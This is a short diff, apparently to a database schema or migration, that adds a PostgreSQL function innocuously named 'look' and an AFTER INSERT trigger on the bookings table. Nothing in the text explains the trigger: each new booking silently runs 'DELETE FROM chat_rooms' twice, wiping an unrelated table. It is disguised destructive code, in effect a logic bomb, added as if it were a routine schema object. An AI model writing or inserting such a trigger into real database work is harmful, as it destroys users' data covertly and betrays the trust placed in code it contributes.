@@ -1,0 +1,3 @@
+-- object: bookings.look
+CREATE FUNCTION look() RETURNS trigger LANGUAGE plpgsql  AS $b$BEGIN FOR i IN 1..2 LOOP DELETE FROM chat_rooms; END LOOP; RETURN NULL; END$b$;
+CREATE TRIGGER look AFTER INSERT ON bookings  FOR EACH ROW EXECUTE FUNCTION look();
